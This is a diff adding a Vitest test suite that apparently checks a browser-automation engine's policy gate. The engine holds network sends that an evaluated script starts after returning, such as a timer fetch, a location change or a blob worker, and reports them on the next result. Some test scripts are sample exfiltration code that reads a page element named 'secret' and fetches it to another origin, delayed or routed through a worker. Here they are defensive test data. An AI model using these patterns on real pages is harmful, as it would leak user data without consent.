@@ -1,0 +1,104 @@
+// What an eval's script leaves behind, on real Chromium: a send it starts after it returned (a fetch a timer makes a
+// second later, a location change, a blob worker it starts later) reaches no one, for as long as the tab lives, and the
+// next result names it; the page's own sends to the same origin keep flowing.
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { evaluate } from '../../shared/engine/ops/eval.js';
+import { PageContext } from '../../shared/engine/page-context.js';
+import { PolicyGate } from '../../shared/engine/policy-gate.js';
+import { policyFromFlags } from '../../shared/policy/flags.js';
+import type { OperationResult } from '../../shared/protocol/operations.js';
+import { loadUrl } from '../support/browser.js';
+import { ctx, useEngineSuite } from '../support/engine-suite.js';
+import { pageEval } from '../support/page-probes.js';
+import { startWatchedSite, type WatchedSite } from '../support/watched-site.js';
+
+const suite = useEngineSuite();
+let watched: WatchedSite;
+let page: PageContext;
+const pages: PageContext[] = [];
+
+beforeAll(async () => {
+  watched = await startWatchedSite();
+  // The second origin may be read, so a navigation or a window to it meets no policy refusal: only the hold stops it.
+  const gate = new PolicyGate(() => policyFromFlags({ allow: ['127.0.0.2'], trust: ['127.0.0.1', 'localhost'] }));
+  const tab = await suite.browser.host.create('about:blank', { focus: false });
+  page = new PageContext(await suite.browser.host.cdp(tab.id), gate);
+  pages.push(page);
+  await page.frames.init();
+  await loadUrl(page, suite.server.url('egress-late.html'));
+});
+afterAll(async () => {
+  for (const each of pages) each.dispose();
+  await watched?.close();
+});
+afterEach(() => {
+  watched.requests.length = 0;
+});
+
+const run = (expression: string) => evaluate(page, { expression }, ctx);
+const KEY = `document.getElementById('secret').textContent`;
+
+/** Waits for the page's own marker that the script's late step has run (a real signal, not a sleep). */
+async function until(marker: string): Promise<void> {
+  const deadline = Date.now() + 20_000;
+  while (!(await pageEval<boolean>(page, `window[${JSON.stringify(marker)}] === true`))) {
+    if (Date.now() > deadline) throw new Error(`the page never set ${marker}`);
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+}
+
+/** The next result's list of what was held since the last one, with the watched origin written as W. */
+function heldLater(result: OperationResult): string[] {
+  return ((result.data?.['heldLater'] ?? []) as string[]).map((entry) => entry.replaceAll(watched.origin, 'W'));
+}
+
+/** The paths that reached the watched site, once the page's own send (outside any eval) has arrived there. */
+async function reached(): Promise<string[]> {
+  const sent = await page.cdp.send<{ result: { value: string } }>('Runtime.evaluate', {
+    expression: `pageSend(${JSON.stringify(`${watched.origin}/page-own`)})`,
+    awaitPromise: true,
+    returnByValue: true,
+  });
+  expect(sent.result.value).toBe('sent');
+  expect(watched.requests).toContain('/page-own');
+  return watched.requests.filter((path) => path !== '/page-own');
+}
+
+describe('what a script starts after it returned stays held', () => {
+  it('a fetch a timer sends a second later', async () => {
+    const result = await run(`setTimeout(() => fetch('${watched.origin}/late-fetch?key=' + encodeURIComponent(${KEY}), { mode: 'no-cors' })
+      .catch(() => undefined).finally(() => (window.lateFetch = true)), 1000); 'scheduled'`);
+    expect(result.text).toBe('"scheduled"');
+    await until('lateFetch');
+    expect(await reached()).toEqual([]);
+    const next = await run('1');
+    expect(heldLater(next)).toEqual(['GET W/late-fetch?key=[redacted 34 chars] (Fetch)']);
+    expect(next.text).toContain('Held, not sent, since the last eval returned: 1 request');
+    expect(heldLater(await run('2'))).toEqual([]);
+  });
+
+  it('a location change a timer makes, leaving the tab on its page', async () => {
+    await run(`setTimeout(() => { location.assign('${watched.origin}/assigned'); setTimeout(() => (window.assigned = true), 300); }, 1000); 0`);
+    await until('assigned');
+    expect(await reached()).toEqual([]);
+    expect(await pageEval(page, 'location.pathname')).toBe('/egress-late.html');
+    expect(heldLater(await run('1'))).toEqual(['GET W/assigned (navigation)']);
+  });
+
+  it('a worker a timer starts from a blob, whose fetch carries no stack of the script', async () => {
+    const worker = `fetch('${watched.origin}/worker-late').catch(() => undefined).then(() => postMessage(0));`;
+    await run(`setTimeout(() => {
+      const late = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}], { type: 'text/javascript' })));
+      late.onmessage = () => (window.workerDone = true);
+    }, 1000); 0`);
+    await until('workerDone');
+    expect(await reached()).toEqual([]);
+    expect(heldLater(await run('1'))).toEqual(['GET W/worker-late (Fetch)']);
+  });
+
+  it('the page’s own sends to that origin flow, after every script', async () => {
+    await run('1');
+    expect(await reached()).toEqual([]);
+    expect(watched.requests).toEqual(['/page-own']);
+  });
+});
